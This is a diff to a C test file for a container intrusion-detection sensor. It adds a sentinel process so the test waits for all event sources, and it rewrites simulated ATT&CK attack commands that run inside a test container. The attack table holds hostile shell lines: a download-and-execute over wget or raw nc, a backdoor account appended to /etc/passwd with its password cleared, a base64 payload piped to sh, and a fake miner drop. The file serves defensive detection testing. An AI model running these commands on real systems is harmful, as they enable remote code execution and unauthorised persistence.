@@ -17,6 +17,7 @@
  * Every alert of the container must carry its image as class, and file
  * alerts container-view paths.
  */
+#include <fcntl.h>
 #include <sched.h>
 #include <signal.h>
 #include <sys/mount.h>
@@ -41,6 +42,7 @@ struct al {
 
 static struct al al[MAXA];
 static int nal;
+static const char *suite_name = ""; /* DETECT_DUMP's line prefix: the two suites run side by side */
 
 static void on_alert(sensor_baseline *b, const sensor_alert *a, void *ud)
 {
@@ -56,19 +58,51 @@ static void on_alert(sensor_baseline *b, const sensor_alert *a, void *ud)
 	al[nal].json = strdup(sensor_alert_json(a));
 	nal++;
 	if (getenv("DETECT_DUMP"))
-		fprintf(stderr, "alert: %s\n", sensor_alert_json(a));
+		fprintf(stderr, "[%s] alert: %s\n", suite_name, sensor_alert_json(a));
 }
 
+/*
+ * The sentinel: a process of the test's own that every source reports (its
+ * exec to proc and audit, its open of a file under ROOT to fanotify). Each
+ * source's kernel queue is in order, so once all three have reported it,
+ * every earlier event of the container has been read.
+ */
+static pid_t sentinel_pid;
+static unsigned sentinel_seen; /* bit per source: 1 proc, 2 audit, 4 fanotify */
+
 /* DETECT_DUMP=1: every event as JSON on stderr, to see why one was missed */
-static void dump(sensor_ctx *c, sensor_event *ev, void *ud)
+static void on_event(sensor_ctx *c, sensor_event *ev, void *ud)
 {
 	char j[8192];
+	int64_t pid = 0;
 
 	(void)c;
 	(void)ud;
-	if (sensor_event_kind(ev) != SENSOR_KIND_EXIT && sensor_event_to_json(ev, j, sizeof(j)) > 0 &&
-	    !strstr(j, "\"kind\":\"host\""))
-		fprintf(stderr, "event: %s\n", j);
+	if (sentinel_pid > 0 && sensor_event_get_int(ev, SENSOR_FIELD_PROCESS_PID, &pid) == 0 &&
+	    pid == sentinel_pid) {
+		enum sensor_kind k = sensor_event_kind(ev);
+
+		switch (sensor_event_source(ev)) {
+		case SENSOR_SOURCE_PROC:
+			sentinel_seen |= k == SENSOR_KIND_EXEC ? 1u : 0u;
+			break;
+		case SENSOR_SOURCE_AUDIT:
+			sentinel_seen |= k == SENSOR_KIND_EXEC ? 2u : 0u;
+			break;
+		case SENSOR_SOURCE_FANOTIFY:
+			sentinel_seen |= k == SENSOR_KIND_FILE ? 4u : 0u;
+			break;
+		default:
+			break;
+		}
+		return;
+	}
+	if (!getenv("DETECT_DUMP") || sensor_event_kind(ev) == SENSOR_KIND_EXIT ||
+	    sensor_event_to_json(ev, j, sizeof(j)) <= 0)
+		return;
+	/* the host's own events only when they name the sandbox's files */
+	if (!strstr(j, "\"kind\":\"host\"") || strstr(j, "\"path\":\"" ROOT))
+		fprintf(stderr, "[%s] event: %s\n", suite_name, j);
 }
 
 static void pump(sensor_ctx *ctx, int ms)
@@ -77,8 +111,43 @@ static void pump(sensor_ctx *ctx, int ms)
 		sensor_ctx_run(ctx, 10000000ull);
 }
 
+/*
+ * Wait on a state, not a time: until every source has delivered the
+ * sentinel (so everything before it), then give out the file alerts still
+ * gathering their ops. The deadline is only there to fail instead of hang.
+ */
+static void drain(sensor_ctx *ctx, sensor_baseline *b)
+{
+	static int n;
+	char path[128];
+	pid_t pid;
+	int st;
+
+	snprintf(path, sizeof(path), ROOT "/sentinel-%d", ++n);
+	st = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+	cr_assert_geq(st, 0);
+	close(st);
+	sentinel_seen = 0;
+	pid = fork();
+	cr_assert_geq(pid, 0);
+	if (pid == 0) {
+		execl("/bin/cat", "cat", path, (char *)NULL);
+		_exit(127);
+	}
+	sentinel_pid = pid;
+	for (int i = 0; i < 6000 && sentinel_seen != 7; i++)
+		sensor_ctx_run(ctx, 10000000ull);
+	waitpid(pid, &st, 0);
+	cr_assert_eq(sentinel_seen, 7, "the sources never delivered the sentinel (%u)",
+		     sentinel_seen);
+	sentinel_pid = 0;
+	unlink(path);
+	sensor_baseline_flush_alerts(b, 0);
+}
+
 /* Run sh -c cmd in the container while the sensor reads events. */
-static void run_in(sensor_ctx *ctx, struct test_container *c, const char *cmd)
+static void run_in(sensor_ctx *ctx, sensor_baseline *b, struct test_container *c,
+		   const char *cmd)
 {
 	const char *argv[] = { "sh", "-c", cmd, NULL };
 	pid_t pid = fork();
@@ -89,7 +158,7 @@ static void run_in(sensor_ctx *ctx, struct test_container *c, const char *cmd)
 		_exit(container_exec(c, argv) < 0 ? 1 : 0);
 	while (waitpid(pid, &st, WNOHANG) == 0)
 		pump(ctx, 20);
-	pump(ctx, 400);
+	drain(ctx, b);
 }
 
 /* The learned workload: a small web app's own commands. */
@@ -123,8 +192,13 @@ static const struct attack attacks[] = {
 	{ "T1496 miner binary dropped and run",
 	  "(cp /bin/busybox /tmp/xmrig 2>/dev/null || cp /bin/true /tmp/xmrig) && /tmp/xmrig true",
 	  { "miner-exec", "container-drift" } },
+	/* busybox-static's wget dies of SIGSEGV in these containers (its glibc
+	 * is static): the fallback fetches the same file over nc, headers cut */
 	{ "T1105 tool downloaded into /tmp and run (Falco drop and execute)",
-	  "wget -q -T 2 -O /tmp/dl http://" PEER ":8080/tool && chmod +x /tmp/dl && /tmp/dl true",
+	  "(wget -q -T 2 -O /tmp/dl http://" PEER ":8080/tool 2>/dev/null || "
+	  "printf 'GET /tool HTTP/1.0\\r\\n\\r\\n' | nc -w 2 " PEER " 8080 | "
+	  "(while read -r l && [ ${#l} -gt 1 ]; do :; done; cat) >/tmp/dl) && "
+	  "chmod +x /tmp/dl && /tmp/dl true",
 	  { "container-drift" } },
 	{ "T1036 binary written into the image's filesystem and run (upper layer)",
 	  "cp /bin/sh /root/.cache-x && /root/.cache-x -c true", { "container-drift" } },
@@ -176,7 +250,10 @@ static const struct attack attacks[] = {
 	{ "T1548 su to root", "su root -c true 2>/dev/null",
 	  { "identity-tool", "identity-change-root" } },
 	{ "T1136.001 local account created (ART T1136.001-1)",
-	  "(adduser -D evil || useradd evil) 2>/dev/null", { "identity-tool" } },
+	  /* busybox-static has neither adduser nor useradd: the line, then passwd */
+	  "(adduser -D evil || useradd evil || (echo 'evil:x:1001:1001::/:/bin/sh' >> /etc/passwd "
+	  "&& passwd -d evil)) 2>/dev/null",
+	  { "identity-tool" } },
 	{ "T1140 base64 payload piped into a shell (ART T1140)", "echo aWQK | base64 -d | sh >/dev/null",
 	  { "decoded-payload-shell" } },
 	{ "T1048 file posted out over HTTP",
@@ -226,6 +303,7 @@ static void suite(enum container_image image, const char *name)
 
 	REQUIRE_ROOT();
 	REQUIRE_FEATURE(access("/usr/sbin/runc", X_OK) == 0, "runc");
+	suite_name = name;
 	cr_assert_eq(unshare(CLONE_NEWNS), 0);
 	cr_assert_eq(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), 0);
 	cr_assert(mkdir(ROOT, 0755) == 0 || errno == EEXIST);
@@ -238,8 +316,7 @@ static void suite(enum container_image image, const char *name)
 	cr_assert_eq(sensor_source_add(ctx, SENSOR_SOURCE_AUDIT, NULL, NULL), 0);
 	cr_assert_eq(sensor_source_add(ctx, SENSOR_SOURCE_FANOTIFY, &fo, NULL), 0);
 	cr_assert_eq(sensor_baseline_attach(ctx, &bo, &b), 0);
-	if (getenv("DETECT_DUMP"))
-		sensor_ctx_set_event_cb(ctx, dump, NULL);
+	cr_assert_eq(sensor_ctx_set_event_cb(ctx, on_event, NULL), 0);
 	nal = 0;
 
 	cr_assert_eq(container_create(&c, &o), 0);
@@ -254,17 +331,17 @@ static void suite(enum container_image image, const char *name)
 	srv = container_peer_spawn(&c, server);
 	cr_assert_gt(srv, 0);
 	cr_assert_eq(container_start(&c), 0);
-	pump(ctx, 300);
+	drain(ctx, b);
 
 	/* learn, then monitor */
 	for (int i = 0; i < 3; i++)
-		run_in(ctx, &c, benign);
+		run_in(ctx, b, &c, benign);
 	for (int i = 0; i < nal; i++)
 		fprintf(stderr, "[%s] alert while learning: %s\n", name, al[i].json);
 	cr_assert_eq(sensor_baseline_set_state(b, c.id, SENSOR_BASELINE_STATE_MONITORING), 0);
 	start = nal;
 	for (int i = 0; i < 2; i++)
-		run_in(ctx, &c, benign);
+		run_in(ctx, b, &c, benign);
 	benign_alerts = 0;
 	for (int i = start; i < nal; i++)
 		if (strcmp(al[i].wl, c.id) == 0) {
@@ -277,7 +354,9 @@ static void suite(enum container_image image, const char *name)
 		bool hit = false;
 
 		start = nal;
-		run_in(ctx, &c, attacks[k].cmd);
+		if (getenv("DETECT_DUMP"))
+			fprintf(stderr, "[%s] attack: %s\n", name, attacks[k].what);
+		run_in(ctx, b, &c, attacks[k].cmd);
 		for (int i = start; i < nal; i++) {
 			if (strcmp(al[i].wl, c.id) != 0)
 				continue;
